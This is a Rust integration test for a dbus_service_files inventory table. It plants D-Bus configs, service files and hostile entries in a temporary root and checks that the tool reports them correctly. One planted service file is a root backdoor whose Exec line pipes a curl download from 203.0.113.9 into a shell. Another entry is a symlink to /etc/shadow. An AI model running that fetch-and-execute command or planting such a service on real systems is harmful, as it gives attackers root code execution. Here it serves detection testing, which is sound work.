//! `dbus_service_files` end to end: the real binary over a temporary root
//! holding every kind of directory the table discovers (standard, config,
//! home, flatpak, snap) and every hostile entry it must survive (symlinks in
//! and out of the tree, a FIFO, a 10 MB file, binary garbage, a non-UTF-8
//! name, an `<includedir>` cycle). Expected rows are built here from what
//! was planted, not copied from output.
use std::collections::BTreeMap;
use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{chown, symlink, MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

type JsonRow = serde_json::Map<String, serde_json::Value>;

const PASSWD: &str = "\
root:x:0:0:root:/root:/bin/sh
alice:x:1000:1000::/srv/alice:/bin/sh
bob:x:1001:1001::/opt/homes/bob:/bin/sh
nobody:x:65534:65534::/nonexistent:/usr/sbin/nologin
";

const DOCTYPE: &str = r#"<!DOCTYPE busconfig PUBLIC "-//freedesktop//DTD D-Bus Bus Configuration 1.0//EN"
 "http://www.freedesktop.org/standards/dbus/1.0/busconfig.dtd">
"#;

/// The Exec of the planted backdoor as written in the file, with every
/// quoting rule in play: the key file turns `\\` into `\`, then the shell
/// rules see `\"` and `\$` inside double quotes.
const EVIL_EXEC: &str =
    r#"/bin/sh -c "curl -s http://203.0.113.9/\\"p\\" | sh; echo \\$HOME" 'lit "x"'"#;

struct Fixture {
    dir: tempfile::TempDir,
}

impl Fixture {
    fn root(&self) -> &Path {
        self.dir.path()
    }

    fn host(&self, inner: &str) -> PathBuf {
        self.root().join(inner.trim_start_matches('/'))
    }

    fn write(&self, inner: &str, bytes: &[u8]) {
        let p = self.host(inner);
        std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
        std::fs::write(&p, bytes).expect("write");
    }

    fn mkdir(&self, inner: &str) {
        std::fs::create_dir_all(self.host(inner)).expect("mkdir");
    }
}

fn service(name: &str, exec: &str) -> Vec<u8> {
    format!("[D-BUS Service]\nName={name}\nExec={exec}\n").into_bytes()
}

fn fixture() -> Fixture {
    let f = Fixture {
        dir: tempfile::tempdir().expect("tempdir"),
    };
    f.write("/etc/passwd", PASSWD.as_bytes());
    f.write(
        "/usr/share/dbus-1/system.conf",
        format!(
            "<!-- system bus -->\n{DOCTYPE}<busconfig>\n<type>system</type>\n\
<standard_system_servicedirs/>\n<includedir>system.d</includedir>\n\
<includedir>/etc/dbus-1/system.d</includedir>\n\
<include ignore_missing=\"yes\">/etc/dbus-1/system-local.conf</include>\n</busconfig>\n"
        )
        .as_bytes(),
    );
    // What an attacker adds: a servicedir only the config names, and an
    // includedir that includes itself.
    f.write(
        "/etc/dbus-1/system-local.conf",
        b"<busconfig><servicedir>/opt/evil/services</servicedir>\
<includedir>/etc/dbus-1/loop.d</includedir></busconfig>",
    );
    f.write(
        "/etc/dbus-1/loop.d/a.conf",
        b"<busconfig><includedir>/etc/dbus-1/loop.d</includedir><include>b.conf</include></busconfig>",
    );
    f.write(
        "/etc/dbus-1/loop.d/b.conf",
        b"<busconfig><include>a.conf</include><servicedir>/opt/loop</servicedir></busconfig>",
    );
    f.write(
        "/etc/dbus-1/system.d/x.conf",
        b"<busconfig><policy context=\"default\"/></busconfig>",
    );
    f.write(
        "/usr/share/dbus-1/session.conf",
        format!(
            "{DOCTYPE}<busconfig><type>session</type><standard_session_servicedirs/>\
<servicedir>/usr/share/dbus-1/services</servicedir></busconfig>"
        )
        .as_bytes(),
    );
    f.write(
        "/opt/evil/services/org.evil.Backdoor.service",
        format!("[D-BUS Service]\nName=org.evil.Backdoor\nExec={EVIL_EXEC}\nUser=root\n")
            .as_bytes(),
    );
    std::fs::set_permissions(
        f.host("/opt/evil/services"),
        std::fs::Permissions::from_mode(0o1777),
    )
    .expect("chmod");
    f.write(
        "/opt/loop/org.loop.service",
        &service("org.loop", "/usr/libexec/loopd"),
    );
    f.write(
        "/usr/share/dbus-1/system-services/org.good.service",
        b"# shipped\n[D-BUS Service]\nName = org.good\nExec=/usr/libexec/good --flag\n\
User=root\nSystemdService=good.service\nAssumedAppArmorLabel=unconfined\nExec=/tmp/ignored\n",
    );
    f.write("/usr/libexec/good", b"#!/bin/sh\nexit 0\n");
    std::fs::set_permissions(
        f.host("/usr/libexec/good"),
        std::fs::Permissions::from_mode(0o755),
    )
    .expect("chmod");
    // `\"` is not a key-file escape: dbus-daemon refuses this file.
    f.write(
        "/usr/share/dbus-1/system-services/badescape.service",
        b"[D-BUS Service]\nName=badescape\nExec=/bin/sh -c \"echo \\\"hi\\\"\"\n",
    );
    f.write(
        "/usr/share/dbus-1/system-services/mismatch.service",
        &service("org.other", "relative-prog"),
    );
    f.write(
        "/usr/share/dbus-1/accessibility-services/org.a11y.service",
        &service("org.a11y", "/usr/libexec/a11y"),
    );
    let s = "/usr/share/dbus-1/services";
    f.mkdir(s);
    symlink(
        "../system-services/org.good.service",
        f.host(&format!("{s}/inside.service")),
    )
    .expect("symlink");
    symlink("/etc/shadow", f.host(&format!("{s}/out.service"))).expect("symlink");
    rustix::fs::mknodat(
        rustix::fs::CWD,
        f.host(&format!("{s}/pipe.service")),
        rustix::fs::FileType::Fifo,
        rustix::fs::Mode::from_raw_mode(0o666),
        0,
    )
    .expect("mkfifo");
    // mknod honours the umask; the hunt wants a world-writable FIFO.
    std::fs::set_permissions(
        f.host(&format!("{s}/pipe.service")),
        std::fs::Permissions::from_mode(0o666),
    )
    .expect("chmod");
    let mut big = service("org.big", "/usr/bin/big");
    while big.len() < 10 * 1024 * 1024 {
        big.extend_from_slice(b"# padding padding padding padding padding padding padding\n");
    }
    big.extend_from_slice(b"User=hidden-past-the-cap\n");
    f.write(&format!("{s}/big.service"), &big);
    let garbage: Vec<u8> = (0..4096u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    f.write(&format!("{s}/garbage.service"), &garbage);
    std::fs::write(
        f.host(s).join(OsStr::from_bytes(b"caf\xe9.service")),
        service("org.cafe", "/usr/bin/cafe"),
    )
    .expect("write");
    // Homes outside /home.
    let a = "/srv/alice/.local/share/dbus-1/services";
    f.write(
        &format!("{a}/org.alice.service"),
        &service("org.alice", "'/srv/alice/my prog' --daemon"),
    );
    f.write("/srv/alice/my prog", b"payload");
    chown(f.host(a), Some(1000), Some(1000)).expect("chown");
    f.write(
        "/opt/homes/bob/.local/share/flatpak/exports/share/dbus-1/services/org.flat.App.service",
        &service("org.flat.App", "/usr/bin/flatpak run org.flat.App"),
    );
    f.write(
        "/run/user/1000/dbus-1/services/org.transient.service",
        &service("org.transient", "\"/srv/alice/my prog\""),
    );
    f.write(
        "/var/lib/flatpak/exports/share/dbus-1/services/org.sysflat.service",
        &service("org.sysflat", "/usr/bin/flatpak run org.sysflat"),
    );
    f.write(
        "/var/lib/snapd/dbus-1/services/io.snap.S.service",
        &service("io.snap.S", "/usr/bin/snap run s"),
    );
    f.write(
        "/var/lib/snapd/dbus-1/system-services/io.snap.Sys.service",
        &service("io.snap.Sys", "/usr/bin/snap run sys"),
    );
    f.write(
        "/var/lib/dpkg/info/dbus.list",
        b"/.\n/usr\n/usr/share/dbus-1/system.conf\n/usr/share/dbus-1/system-services/org.good.service\n",
    );
    f.write("/var/lib/dpkg/status", b"");
    f
}

/// Runs the binary under `root`, killing it if it hangs (a FIFO opened for
/// reading would block forever).
fn query(root: &Path, sql: &str) -> Vec<JsonRow> {
    let mut child = Command::new(env!("CARGO_BIN_EXE_osquery-dbus"))
        .arg("--root")
        .arg(root)
        .args(["query", "--json", sql])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn");
    let start = Instant::now();
    while child.try_wait().expect("wait").is_none() {
        if start.elapsed() > Duration::from_secs(30) {
            let _ = child.kill();
            panic!("query hung: {sql}");
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    let out = child.wait_with_output().expect("output");
    assert!(
        out.status.success(),
        "{sql}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON");
    v.as_array()
        .expect("array")
        .iter()
        .map(|r| r.as_object().expect("object").clone())
        .collect()
}

fn s(row: &JsonRow, col: &str) -> String {
    row.get(col)
        .and_then(|v| v.as_str())
        .unwrap_or_else(|| panic!("{col} missing in {row:?}"))
        .to_string()
}

/// One expected row: the columns compared for every row, NULL as "".
#[derive(Debug, Clone, PartialEq, Eq, Default)]
struct Want {
    path: String,
    source: String,
    bus: String,
    kind: String,
    ty: String,
    user_uid: String,
    symlink_target: String,
    service_name: String,
    exec: String,
    exec_path: String,
    run_as_user: String,
    name_matches_filename: String,
    exec_exists: String,
    package: String,
    dir_writable_by_non_root: String,
    error: String,
}

const COLUMNS: &str = "path, source, bus, kind, type, user_uid, symlink_target, service_name, \
exec, exec_path, run_as_user, name_matches_filename, exec_exists, package, \
dir_writable_by_non_root, error";

fn got(row: &JsonRow) -> Want {
    Want {
        path: s(row, "path"),
        source: s(row, "source"),
        bus: s(row, "bus"),
        kind: s(row, "kind"),
        ty: s(row, "type"),
        user_uid: s(row, "user_uid"),
        symlink_target: s(row, "symlink_target"),
        service_name: s(row, "service_name"),
        exec: s(row, "exec"),
        exec_path: s(row, "exec_path"),
        run_as_user: s(row, "run_as_user"),
        name_matches_filename: s(row, "name_matches_filename"),
        exec_exists: s(row, "exec_exists"),
        package: s(row, "package"),
        dir_writable_by_non_root: s(row, "dir_writable_by_non_root"),
        error: s(row, "error"),
    }
}

fn expected() -> Vec<Want> {
    let file = |path: &str, source: &str, bus: &str, kind: &str| Want {
        path: path.to_string(),
        source: source.into(),
        bus: bus.into(),
        kind: kind.into(),
        ty: "regular".into(),
        dir_writable_by_non_root: "0".into(),
        ..Want::default()
    };
    let svc = |path: &str,
               source: &str,
               bus: &str,
               name: &str,
               exec: &str,
               exec_path: &str,
               exists: &str| {
        let mut w = file(path, source, bus, "service");
        w.service_name = name.into();
        w.exec = exec.into();
        w.exec_path = exec_path.into();
        w.exec_exists = exists.into();
        w.name_matches_filename = "1".into();
        w
    };
    let ss = "/usr/share/dbus-1/services";
    let mut v = vec![
        file(
            "/usr/share/dbus-1/system.conf",
            "standard",
            "system",
            "config",
        ),
        file(
            "/etc/dbus-1/system-local.conf",
            "standard",
            "system",
            "config",
        ),
        file(
            "/etc/dbus-1/system.d/x.conf",
            "standard",
            "system",
            "policy",
        ),
        file(
            "/usr/share/dbus-1/session.conf",
            "standard",
            "session",
            "config",
        ),
        file("/etc/dbus-1/loop.d/a.conf", "config", "system", "policy"),
        file("/etc/dbus-1/loop.d/b.conf", "config", "system", "policy"),
    ];
    v[0].package = "dbus".into();
    let mut good = svc(
        "/usr/share/dbus-1/system-services/org.good.service",
        "standard",
        "system",
        "org.good",
        "/usr/libexec/good --flag",
        "/usr/libexec/good",
        "1",
    );
    good.run_as_user = "root".into();
    good.package = "dbus".into();
    v.push(good);
    let mut mismatch = svc(
        "/usr/share/dbus-1/system-services/mismatch.service",
        "standard",
        "system",
        "org.other",
        "relative-prog",
        "relative-prog",
        "0",
    );
    mismatch.name_matches_filename = "0".into();
    v.push(mismatch);
    let mut badescape = svc(
        "/usr/share/dbus-1/system-services/badescape.service",
        "standard",
        "system",
        "badescape",
        r#"/bin/sh -c "echo \"hi\"""#,
        "/bin/sh",
        "0",
    );
    badescape.error = "/usr/share/dbus-1/system-services/badescape.service: dbus-daemon would \
refuse this file: line 3: invalid escape \\\" in Exec"
        .into();
    v.push(badescape);
    v.push(svc(
        "/usr/share/dbus-1/accessibility-services/org.a11y.service",
        "standard",
        "session",
        "org.a11y",
        "/usr/libexec/a11y",
        "/usr/libexec/a11y",
        "0",
    ));
    let mut inside = file(
        &format!("{ss}/inside.service"),
        "standard",
        "session",
        "service",
    );
    inside.ty = "symlink".into();
    inside.symlink_target = "../system-services/org.good.service".into();
    // The bus reads a link's target, and so does the table (inside the
    // root): the system service's keys, named for another file.
    inside.service_name = "org.good".into();
    inside.exec = "/usr/libexec/good --flag".into();
    inside.exec_path = "/usr/libexec/good".into();
    inside.run_as_user = "root".into();
    inside.name_matches_filename = "0".into();
    inside.exec_exists = "1".into();
    v.push(inside);
    let mut out = file(
        &format!("{ss}/out.service"),
        "standard",
        "session",
        "service",
    );
    out.ty = "symlink".into();
    out.symlink_target = "/etc/shadow".into();
    // Resolved inside the root, where there is no /etc/shadow.
    out.error = format!(
        "{ss}/out.service: symlink to nothing inside the root; the bus reads no service from it until its target is created"
    );
    v.push(out);
    let mut pipe = file(
        &format!("{ss}/pipe.service"),
        "standard",
        "session",
        "service",
    );
    pipe.ty = "fifo".into();
    v.push(pipe);
    let mut big = svc(
        &format!("{ss}/big.service"),
        "standard",
        "session",
        "org.big",
        "/usr/bin/big",
        "/usr/bin/big",
        "0",
    );
    big.name_matches_filename = "0".into();
    big.error = format!(
        "{ss}/big.service: larger than {cap} bytes; only the first {cap} parsed \
(dbus-daemon refuses files over 128 KiB, dbus-broker reads them whole)",
        cap = osquery_dbus::sources::service_file::MAX_SERVICE_FILE_BYTES
    );
    v.push(big);
    let mut garbage = file(
        &format!("{ss}/garbage.service"),
        "standard",
        "session",
        "service",
    );
    garbage.error = format!("{ss}/garbage.service: no [D-BUS Service] group");
    v.push(garbage);
    let mut cafe = svc(
        &format!("{ss}/caf\\xe9.service"),
        "standard",
        "session",
        "org.cafe",
        "/usr/bin/cafe",
        "/usr/bin/cafe",
        "0",
    );
    cafe.name_matches_filename = "0".into();
    v.push(cafe);
    let mut alice = svc(
        "/srv/alice/.local/share/dbus-1/services/org.alice.service",
        "home",
        "session",
        "org.alice",
        "'/srv/alice/my prog' --daemon",
        "/srv/alice/my prog",
        "1",
    );
    alice.user_uid = "1000".into();
    alice.dir_writable_by_non_root = "1".into();
    v.push(alice);
    let mut flat = svc(
        "/opt/homes/bob/.local/share/flatpak/exports/share/dbus-1/services/org.flat.App.service",
        "flatpak",
        "session",
        "org.flat.App",
        "/usr/bin/flatpak run org.flat.App",
        "/usr/bin/flatpak",
        "0",
    );
    flat.user_uid = "1001".into();
    v.push(flat);
    let mut transient = svc(
        "/run/user/1000/dbus-1/services/org.transient.service",
        "xdg",
        "session",
        "org.transient",
        "\"/srv/alice/my prog\"",
        "/srv/alice/my prog",
        "1",
    );
    transient.user_uid = "1000".into();
    v.push(transient);
    v.push(svc(
        "/var/lib/flatpak/exports/share/dbus-1/services/org.sysflat.service",
        "flatpak",
        "session",
        "org.sysflat",
        "/usr/bin/flatpak run org.sysflat",
        "/usr/bin/flatpak",
        "0",
    ));
    v.push(svc(
        "/var/lib/snapd/dbus-1/services/io.snap.S.service",
        "snap",
        "session",
        "io.snap.S",
        "/usr/bin/snap run s",
        "/usr/bin/snap",
        "0",
    ));
    v.push(svc(
        "/var/lib/snapd/dbus-1/system-services/io.snap.Sys.service",
        "snap",
        "system",
        "io.snap.Sys",
        "/usr/bin/snap run sys",
        "/usr/bin/snap",
        "0",
    ));
    let mut evil = svc(
        "/opt/evil/services/org.evil.Backdoor.service",
        "config",
        "system",
        "org.evil.Backdoor",
        EVIL_EXEC,
        "/bin/sh",
        "0",
    );
    evil.run_as_user = "root".into();
    evil.dir_writable_by_non_root = "1".into();
    v.push(evil);
    v.push(svc(
        "/opt/loop/org.loop.service",
        "config",
        "system",
        "org.loop",
        "/usr/libexec/loopd",
        "/usr/libexec/loopd",
        "0",
    ));
    v.sort_by(|a, b| a.path.cmp(&b.path));
    v
}

#[test]
fn every_source_and_every_hostile_entry_exactly() {
    let f = fixture();
    let rows = query(
        f.root(),
        &format!("SELECT {COLUMNS} FROM dbus_service_files ORDER BY path"),
    );
    let have: Vec<Want> = rows.iter().map(got).collect();
    let want = expected();
    for (h, w) in have.iter().zip(&want) {
        assert_eq!(h, w);
    }
    assert_eq!(have.len(), want.len(), "{have:#?}");
}

fn sha256sum(path: &Path) -> String {
    let out = Command::new("sha256sum")
        .arg(path)
        .output()
        .expect("sha256sum");
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .next()
        .expect("digest")
        .to_string()
}

#[test]
fn hashes_metadata_and_package_nulls() {
    let f = fixture();
    let rows: BTreeMap<String, JsonRow> = query(
        f.root(),
        "SELECT path, type, sha256, exec_sha256, exec_uid, exec_mode, inode, hard_links, \
world_writable, package IS NULL AS no_package FROM dbus_service_files",
    )
    .into_iter()
    .map(|r| (s(&r, "path"), r))
    .collect();
    let good = &rows["/usr/share/dbus-1/system-services/org.good.service"];
    let host = f.host("/usr/share/dbus-1/system-services/org.good.service");
    assert_eq!(s(good, "sha256"), sha256sum(&host));
    assert_eq!(
        s(good, "exec_sha256"),
        sha256sum(&f.host("/usr/libexec/good"))
    );
    assert_eq!(s(good, "exec_uid"), "0");
    assert_eq!(s(good, "exec_mode"), "0755");
    let m = std::fs::metadata(&host).expect("stat");
    assert_eq!(s(good, "inode"), m.ino().to_string());
    assert_eq!(s(good, "hard_links"), "1");
    assert_eq!(s(good, "world_writable"), "0");
    assert_eq!(s(good, "no_package"), "0");
    let big = &rows["/usr/share/dbus-1/services/big.service"];
    assert_eq!(
        s(big, "sha256"),
        sha256sum(&f.host("/usr/share/dbus-1/services/big.service"))
    );
    for p in ["inside.service", "out.service", "pipe.service"] {
        let r = &rows[&format!("/usr/share/dbus-1/services/{p}")];
        assert_eq!(s(r, "sha256"), "", "{p}: never followed nor opened");
        assert_eq!(
            s(r, "world_writable"),
            if p == "pipe.service" { "1" } else { "0" }
        );
    }
    let alice = &rows["/srv/alice/.local/share/dbus-1/services/org.alice.service"];
    assert_eq!(
        s(alice, "exec_sha256"),
        sha256sum(&f.host("/srv/alice/my prog"))
    );

    // Without any dpkg database the package is NULL, not ''.
    std::fs::remove_dir_all(f.host("/var/lib/dpkg")).expect("rm");
    let none = query(
        f.root(),
        "SELECT count(*) AS n FROM dbus_service_files WHERE package IS NOT NULL",
    );
    assert_eq!(s(&none[0], "n"), "0");
}

#[test]
fn pushdown_by_path_and_directory_matches_the_full_scan() {
    let f = fixture();
    let full = query(
        f.root(),
        &format!("SELECT {COLUMNS} FROM dbus_service_files ORDER BY path"),
    );
    let wanted = [
        "/usr/share/dbus-1/services/pipe.service",
        "/usr/share/dbus-1/services/caf\\xe9.service",
        "/opt/evil/services/org.evil.Backdoor.service",
        "/etc/dbus-1/loop.d/a.conf",
    ];
    let list = wanted
        .iter()
        .map(|p| format!("'{p}'"))
        .collect::<Vec<_>>()
        .join(", ");
    let got = query(
        f.root(),
        &format!("SELECT {COLUMNS} FROM dbus_service_files WHERE path IN ({list}) ORDER BY path"),
    );
    let expect: Vec<&JsonRow> = full
        .iter()
        .filter(|r| wanted.contains(&s(r, "path").as_str()))
        .collect();
    assert_eq!(got.iter().collect::<Vec<_>>(), expect);
    assert_eq!(got.len(), wanted.len());
    let by_dir = query(
        f.root(),
        &format!(
            "SELECT {COLUMNS} FROM dbus_service_files WHERE directory = '/opt/loop' ORDER BY path"
        ),
    );
    assert_eq!(by_dir.len(), 1);
    assert_eq!(s(&by_dir[0], "path"), "/opt/loop/org.loop.service");
    // Files a full scan does not list never come back through pushdown.
    let none = query(
        f.root(),
        "SELECT path FROM dbus_service_files WHERE path IN ('/etc/passwd', \
'/usr/libexec/good', '/etc/dbus-1/loop.d', '/srv/alice/my prog')",
    );
    assert!(none.is_empty(), "{none:?}");
}

#[test]
fn a_planted_unowned_file_has_an_empty_package() {
    let f = fixture();
    f.write(
        "/var/lib/dpkg/info/foo.list",
        b"/usr/share/dbus-1/system-services/org.foo.service\n",
    );
    f.write(
        "/usr/share/dbus-1/system-services/org.foo.service",
        &service("org.foo", "/usr/bin/foo"),
    );
    f.write(
        "/usr/share/dbus-1/system-services/planted.service",
        &service("planted", "/tmp/x"),
    );
    let rows: BTreeMap<String, String> = query(
        f.root(),
        "SELECT path, package FROM dbus_service_files WHERE directory = '/usr/share/dbus-1/system-services'",
    )
    .into_iter()
    .map(|r| (s(&r, "path"), s(&r, "package")))
    .collect();
    let d = "/usr/share/dbus-1/system-services";
    assert_eq!(rows[&format!("{d}/org.foo.service")], "foo");
    assert_eq!(rows[&format!("{d}/planted.service")], "");
    assert_eq!(rows[&format!("{d}/org.good.service")], "dbus");
}
